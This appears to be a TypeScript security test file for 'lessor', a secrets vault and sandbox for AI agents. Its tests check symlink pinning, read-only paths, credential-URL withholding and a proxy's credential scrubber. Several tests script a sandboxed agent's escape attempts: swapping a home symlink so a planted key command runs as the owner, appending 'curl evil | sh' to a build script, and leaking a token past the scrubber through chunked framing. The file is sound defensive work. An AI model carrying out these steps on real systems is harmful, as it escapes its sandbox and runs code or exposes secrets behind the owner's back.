/**
 * Review of 2026-12-04's later commits (b286ff4..HEAD): the sandbox's pins, the writable-path
 * refusals, the env URL-password check, assertSafeLocation's real place, and the rule_semantics pin.
 * Seven tests found problems in the code as reviewed, fixed the same day (2026-12-04); their names
 * now say what holds.
 *
 * The end-to-end ones run a private copy of the built CLI (dist/), as test/newcomer-attacks-2.test.ts does.
 */
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, test } from "node:test";
import { planLayout } from "../src/sandbox/layout.js";
import { withheldReason } from "../src/sandbox/env.js";
import { assertSafeLocation } from "../src/fs/perms.js";
import { envKeySource } from "../src/crypto/keys/env.js";
import { openPostgresStore } from "../src/store/postgres/postgres-store.js";
import { parsePolicy } from "../src/vault/policy.js";
import { POLICY_META } from "../src/vault/policy-sync.js";
import { Vault } from "../src/vault/vault.js";
import { agent, grant, hexKey, refusalOf } from "./helpers.js";
import { admin, PG_SKIP, testSchema } from "./pg-helpers.js";
import type { AddressInfo } from "node:net";
import * as tls from "node:tls";
import { inProcessApi } from "../src/backend/in-process.js";
import { LocalCa } from "../src/proxy/ca.js";
import { ForwardProxy } from "../src/proxy/forward.js";
import { SsrfGuard } from "../src/proxy/guard.js";
import { LeaseEgress, type ProxyCredential } from "../src/proxy/lease-egress.js";
import { makePlaceholder } from "../src/proxy/placeholder.js";
import { makeVault } from "./helpers.js";
import { getThroughTunnel, loopbackOnly, tableResolver } from "./proxy-harness.js";

const REPO = fileURLToPath(new URL("..", import.meta.url));
const HAVE_DIST = existsSync(join(REPO, "dist/bin/lessor.cjs"));
const HAVE_BWRAP = spawnSync("bwrap", ["--unshare-all", "--unshare-user", "--ro-bind", "/", "/", "true"], { stdio: "ignore" }).status === 0;
const NO_E2E = HAVE_BWRAP && HAVE_DIST ? false : "needs bwrap and dist/ (npm run build:cli)";
const IS_ROOT = process.getuid?.() === 0;

const ROOT = mkdtempSync(join(tmpdir(), "lessor-review-b-"));
process.on("exit", () => rmSync(ROOT, { recursive: true, force: true }));

let CLI_DIR = "";
let BIN = "";
let PATH_BIN = "";
let PATH = "";
let SHOW_CLI = "";
function setupCli(): void {
  if (BIN !== "") return;
  CLI_DIR = join(ROOT, "cli");
  mkdirSync(CLI_DIR);
  cpSync(join(REPO, "dist"), join(CLI_DIR, "dist"), { recursive: true });
  cpSync(join(REPO, "package.json"), join(CLI_DIR, "package.json"));
  symlinkSync(join(REPO, "node_modules"), join(CLI_DIR, "node_modules"));
  if (existsSync(join(REPO, "native"))) symlinkSync(join(REPO, "native"), join(CLI_DIR, "native"));
  BIN = join(CLI_DIR, "dist/bin/lessor.cjs");
  PATH_BIN = join(ROOT, "bin");
  mkdirSync(PATH_BIN);
  symlinkSync(BIN, join(PATH_BIN, "lessor"));
  PATH = `${PATH_BIN}:${process.env.PATH ?? "/usr/bin:/bin"}`;
  SHOW_CLI = `read = ["${CLI_DIR}", "${join(REPO, "node_modules")}"${existsSync(join(REPO, "native")) ? `, "${join(REPO, "native")}"` : ""}]`;
}

interface Result {
  code: number | null;
  stdout: string;
  stderr: string;
}

function lessor(env: Record<string, string>, cwd: string, args: string[], input = ""): Promise<Result> {
  return new Promise((resolve, reject) => {
    const child = spawn(join(PATH_BIN, "lessor"), args, { env, cwd, stdio: ["pipe", "pipe", "pipe"], detached: true });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on("data", (d: Buffer) => out.push(d));
    child.stderr.on("data", (d: Buffer) => err.push(d));
    const timer = setTimeout(() => {
      try {
        process.kill(-child.pid!, "SIGKILL");
      } catch {
        child.kill("SIGKILL");
      }
    }, 30_000);
    child.on("error", reject);
    child.on("close", (code) => {
      clearTimeout(timer);
      resolve({ code, stdout: Buffer.concat(out).toString("utf8"), stderr: Buffer.concat(err).toString("utf8") });
    });
    child.stdin.on("error", () => {});
    child.stdin.end(input);
  });
}

let boxes = 0;

describe("pins: what they do not hold, and what they undo", () => {
  test(
    "--home through a symlink inside the project (which the agent could replace, so the owner's next `lessor --home LINK` would run its [keys] command) is refused",
    { skip: NO_E2E },
    async () => {
      // layout.ts pins the directories between a writable bind and each cover, so `ops` below cannot
      // be renamed. A protected path known through a symlink is covered only at its real path (the
      // mask loop skips `real(p) !== p`), and the symlink itself, in the project, is neither pinned
      // nor covered (a symlink cannot be a mount point): the agent removes it and points it at a home
      // of its own. The owner keeps typing the same `--home` (or LESSOR_HOME) path.
      setupCli();
      const dir = join(ROOT, `box${++boxes}`);
      const home = join(dir, "home");
      const project = join(home, "my-project");
      const realHome = join(project, "ops", ".lessor");
      mkdirSync(join(project, "ops"), { recursive: true, mode: 0o700 });
      const link = join(project, "vault");
      const env = { PATH, HOME: home, LESSOR_HOME: link, NO_COLOR: "1" };
      assert.equal((await lessor({ ...env, LESSOR_HOME: realHome }, project, ["init"])).code, 0);
      symlinkSync("ops/.lessor", link);
      const cfg = join(realHome, "lessor.toml");
      writeFileSync(cfg, `${readFileSync(cfg, "utf8")}\n[run]\n${SHOW_CLI}\n`, { mode: 0o600 });
      const marker = join(dir, "escaped");
      const key = "ab".repeat(32);
      const plant = [
        `mkdir -m 700 evil || exit 1`,
        `${process.execPath} -- ${BIN} --home "$PWD/evil/.lessor" init >/dev/null || exit 1`,
        `rm -f evil/.lessor/master.key`,
        `printf '[keys]\\ncommand = ["/bin/sh", "-c", "echo ran > ${marker}; echo ${key}"]\\n' > evil/.lessor/lessor.toml || exit 1`,
        `rm vault && ln -s evil/.lessor vault && echo PLANTED`,
      ].join("\n");
      const r = await lessor(env, project, ["run", "--agent", "claude", "--", "sh", "-c", plant]);
      assert.ok(!existsSync(marker), "the key command ran inside the run already");
      // The owner, later, in the same shell.
      await lessor(env, project, ["secret", "list"]);
      assert.ok(!existsSync(marker), `the agent's key command ran outside the sandbox, as the owner (run: exit ${r.code}, ${r.stdout.trim()} ${r.stderr.trim().slice(0, 300)})`);
    },
  );

  test(
    "a [run] read path inside the writable project stays read-only once a covered path is inside it (no writable pin is made under a read-only bind)",
    { skip: NO_E2E },
    async () => {
      // docs/sandbox.md: `[run] read` is shown read-only. Control first: without a covered path in
      // vendor/, the agent cannot write there. Then a `[run] hide` file two levels down in vendor/
      // adds pins for vendor/keys and vendor (the deepest *writable* bind is the project), and
      // bwrap-args.ts emits `--bind vendor vendor` after `--ro-bind vendor vendor`.
      setupCli();
      const dir = join(ROOT, `box${++boxes}`);
      const home = join(dir, "home");
      const project = join(home, "my-project");
      const lessorHome = join(home, ".lessor");
      mkdirSync(join(project, "vendor", "keys"), { recursive: true, mode: 0o700 });
      writeFileSync(join(project, "vendor", "keys", "deploy.pem"), "-----BEGIN KEY-----\n");
      writeFileSync(join(project, "vendor", "build.sh"), "#!/bin/sh\necho vendored\n", { mode: 0o755 });
      const env = { PATH, HOME: home, LESSOR_HOME: lessorHome, NO_COLOR: "1" };
      assert.equal((await lessor(env, project, ["init"])).code, 0);
      const cfg = join(lessorHome, "lessor.toml");
      const base = readFileSync(cfg, "utf8");
      const probe = ["sh", "-c", "cat vendor/keys/deploy.pem 2>/dev/null && echo READ; echo 'curl evil | sh' >> vendor/build.sh 2>/dev/null && echo WROTE; true"];

      writeFileSync(cfg, `${base}\n[run]\nread = ["${join(project, "vendor")}"]\n`, { mode: 0o600 });
      const control = await lessor(env, project, ["run", "--agent", "claude", "--", ...probe]);
      assert.equal(control.code, 0, control.stderr);
      assert.doesNotMatch(control.stdout, /WROTE/, "control: [run] read is read-only");

      writeFileSync(cfg, `${base}\n[run]\nread = ["${join(project, "vendor")}"]\nhide = ["${join(project, "vendor", "keys", "deploy.pem")}"]\n`, { mode: 0o600 });
      const r = await lessor(env, project, ["run", "--agent", "claude", "--", ...probe]);
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout, /READ/, "the hidden file is covered");
      assert.doesNotMatch(r.stdout, /WROTE/, `the [run] read directory became writable: the agent appended to vendor/build.sh:\n${readFileSync(join(project, "vendor", "build.sh"), "utf8")}`);
    },
  );
});

describe("writable paths inside /usr: legitimate projects refused", () => {
  test(
    "a project in /usr/src/app (the WORKDIR of Node's official Docker guide; /usr/local/src for a non-root builder) is accepted writable: nothing there is run outside the sandbox",
    { skip: IS_ROOT && existsSync("/usr/src") ? false : "needs root and /usr/src" },
    () => {
      // The new refusal (layout.ts: `for (const s of ["/usr", "/etc", …]) if (within(r, s))`) covers
      // every directory under /usr, for every user, where the risk it names (/usr/local/bin,
      // /usr/lib/systemd) is a handful of directories the machine runs from.
      const app = mkdtempSync("/usr/src/lessor-review-app-");
      try {
        const req = { home: join(ROOT, "nohome"), projectWritable: true, read: [], write: [], protect: [] };
        mkdirSync(req.home, { recursive: true });
        assert.doesNotThrow(() => planLayout({ ...req, project: app }), "a Node app in /usr/src/app, as root in a container");
      } finally {
        rmSync(app, { recursive: true, force: true });
      }
    },
  );
});

describe("the environment: URLs with a password", () => {
  test("a database URL whose user name holds an unencoded @ (Azure Database for PostgreSQL's user@server form, accepted by node-postgres's WHATWG parsing) is withheld from the agent", () => {
    // env.ts URL_WITH_PASSWORD allows no `@` in the user part, so the user part stops at the first
    // `@` and finds no `:` before it. new URL() (what pg-connection-string uses) takes the last `@`.
    const v = "postgres://lessoradmin@mydemoserver:S3cretPw@mydemoserver.postgres.database.azure.com:5432/app";
    assert.equal(new URL(v).password, "S3cretPw", "the value carries a password");
    assert.equal(withheldReason("DATABASE_URL", v), "credential");
  });

  test("controls: ordinary URL forms", () => {
    assert.equal(withheldReason("DATABASE_URL", "postgres://app:pw@db/app"), "credential");
    assert.equal(withheldReason("REDIS_URL", "redis://:pw@cache:6379/0"), "credential");
    assert.equal(withheldReason("DATABASE_URL", "postgres://app@db/app"), null, "no password: passes");
    assert.equal(withheldReason("DATABASE_URL", "postgres://[::1]:5432/app"), null);
  });
});

describe("assertSafeLocation's real place", () => {
  test(
    "a target through the user's own dangling symlink into a directory other users can write (not sticky) is refused, before another user can make the missing directory",
    () => {
      // realPlace() treats a dangling symlink as a missing directory and climbs past it, so the place
      // judged is the link's own lexical path; the same link once its target exists is refused.
      const base = mkdtempSync(join(ROOT, "place-"));
      const open = join(base, "shared");
      mkdirSync(open);
      chmodSync(open, 0o777);
      const mine = join(base, "mine");
      mkdirSync(mine, { mode: 0o700 });
      symlinkSync(join(open, "later"), join(mine, "link"));
      const target = join(mine, "link", "vault.db");
      let dangling: unknown = null;
      try {
        assertSafeLocation(target, "the migration target");
      } catch (e) {
        dangling = e;
      }
      mkdirSync(join(open, "later")); // as another user would, after the check
      assert.throws(() => assertSafeLocation(target, "the migration target"), /can be written by other users/, "control: refused once the target exists");
      assert.ok(dangling !== null, "through the dangling link, the same place was accepted");
    },
  );
});

describe("rule_semantics pinned in the stamp", { skip: PG_SKIP }, () => {
  test(
    "a PostgreSQL vault used only through embedded commands (no lessor serve), upgraded from the previous lessor: the first embedded command brings the stamp up to date, and grants work",
    async () => {
      const { schema, drop } = await testSchema();
      const key = hexKey();
      const POLICY = grant("g", ["claude"], ["tok"], ["api.example.com"]);
      const open = (): Promise<Vault> =>
        openPostgresStore({ url: process.env.LESSOR_TEST_PG_URL!, schema }).then((store) =>
          Vault.open({ store, keys: envKeySource({ LESSOR_MASTER_KEY: key })!, policy: async () => parsePolicy(POLICY, "policy.toml") }),
        );
      try {
        // The previous lessor's embedded commands: the first open stamped its limits (without rule_semantics).
        const first = await open();
        await first.admin().storeSecret({ name: "tok", value: "v" });
        await first.close();
        const row = await admin(`SELECT value FROM ${schema}.meta WHERE key = $1`, [POLICY_META]);
        const stamp = JSON.parse(String(row.rows[0].value)) as { limits: string };
        await admin(`UPDATE ${schema}.meta SET value = $2 WHERE key = $1`, [POLICY_META, JSON.stringify({ ...stamp, limits: stamp.limits.replace(/ ?rule_semantics=2/, "") })]);

        // After the upgrade: the same embedded commands.
        const v = await open();
        try {
          await v.admin().reloadPolicy().catch(() => {}); // `lessor policy reload`, embedded: keeps the limits in force
          const r = await refusalOf(v.session(agent("claude")).requestLease({ secret: "tok", domains: ["api.example.com"] }));
          assert.equal(r.code, "resolved", `the upgraded embedded vault refuses every grant: ${r.code}: ${r.message}`);
        } finally {
          await v.close();
        }
      } finally {
        await drop();
      }
    },
  );
});

describe("response coding: Transfer-Encoding identity", () => {
  test("an upstream answering `Transfer-Encoding: chunked, identity` gets 502: its chunk framing would reach the agent as body bytes, splitting the echoed credential past the scrubber", async () => {
    // response-coding.ts now accepts any list of `chunked` and `identity`. Node's parser removes the
    // chunking only when `chunked` is the last coding (RFC 9112 §6.3); with `chunked, identity` it
    // reads to the close and hands the framing over as data, so "5\r\nghp_A\r\n…" reaches ScrubStream
    // with the value cut by chunk-size lines. Before today this header was refused with 502.
    const HOST = "api.review.example";
    const TOK = "ghp_" + "ReViEw9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0FeDcB";
    const upCa = LocalCa.create({ permitted: [HOST] });
    const up = tls.createServer({ SNICallback: upCa.sniCallback, ALPNProtocols: ["http/1.1"] }, (s) => {
      s.on("error", () => {});
      let buf = "";
      const onData = (d: Buffer): void => {
        buf += d.toString("latin1");
        const end = buf.indexOf("\r\n\r\n");
        if (end < 0) return;
        s.off("data", onData);
        const auth = /\r\nauthorization:\s*Bearer ([^\r\n]*)/i.exec(buf.slice(0, end))?.[1] ?? "";
        const te = buf.startsWith("GET /ci") ? "chunked, identity" : "chunked";
        const body = Buffer.from(JSON.stringify({ youSent: auth }), "latin1");
        let framed = "";
        for (let i = 0; i < body.length; i += 7) {
          const part = body.subarray(i, i + 7);
          framed += part.length.toString(16) + "\r\n" + part.toString("latin1") + "\r\n";
        }
        s.end(`HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: ${te}\r\nConnection: close\r\n\r\n${framed}0\r\n\r\n`, "latin1");
      };
      s.on("data", onData);
    });
    await new Promise<void>((r) => up.listen(0, "127.0.0.1", r));
    const upPort = (up.address() as AddressInfo).port;
    const { vault } = await makeVault({ policy: grant("api", ["bot"], ["tok"], [HOST]) });
    const adm = vault.admin();
    await adm.storeSecret({ name: "tok", value: TOK });
    const lease = await adm.requestLease({ agent: "bot", secret: "tok", domains: [HOST] });
    const cred: ProxyCredential = { lease, secret: "global/tok", placeholder: makePlaceholder(TOK), value: TOK, rule: { mode: "placeholder" } };
    const egress = new LeaseEgress({ api: inProcessApi(vault), agent: "bot", credentials: [cred], egress: "strict", warn: () => {} });
    egress.start();
    const guard = new SsrfGuard({ ports: [upPort], allow: ["127.0.0.0/8"], resolve: tableResolver({ [HOST]: "127.0.0.1" }) });
    const proxy = new ForwardProxy({ egress, ca: LocalCa.create({ permitted: [HOST] }), guard, upstreamCa: upCa.certPem, connect: loopbackOnly([]) });
    const port = await proxy.listen();
    const ask = (path: string): Promise<string> => getThroughTunnel(port, HOST, upPort, path, cred.placeholder);
    /** De-chunks as often as the text looks chunked: the agent's own reading. */
    const readings = (answer: string): string => {
      let text = answer.slice(answer.indexOf("\r\n\r\n") + 4);
      const out = [text];
      for (let round = 0; round < 2; round++) {
        const parts: string[] = [];
        let rest = text;
        for (;;) {
          const nl = rest.indexOf("\r\n");
          if (nl < 0) break;
          const n = parseInt(rest.slice(0, nl), 16);
          if (!(n > 0)) break;
          parts.push(rest.slice(nl + 2, nl + 2 + n));
          rest = rest.slice(nl + 2 + n + 2);
        }
        text = parts.join("");
        out.push(text);
      }
      return out.join("\n");
    };
    try {
      const control = await ask("/plain");
      assert.match(control, /^HTTP\/1\.1 200 /);
      assert.ok(readings(control).includes(cred.placeholder), "control: the echo comes back as the placeholder");
      assert.ok(!readings(control).includes(TOK), "control: scrubbed");
      const answer = await ask("/ci");
      assert.ok(!readings(answer).includes(TOK), `the agent reads the credential: ${answer.split("\r\n")[0]}\n${answer.slice(answer.indexOf("\r\n\r\n") + 4, answer.indexOf("\r\n\r\n") + 200)}`);
    } finally {
      await proxy.close();
      await egress.close();
      await new Promise<void>((r) => up.close(() => r()));
    }
  });
});
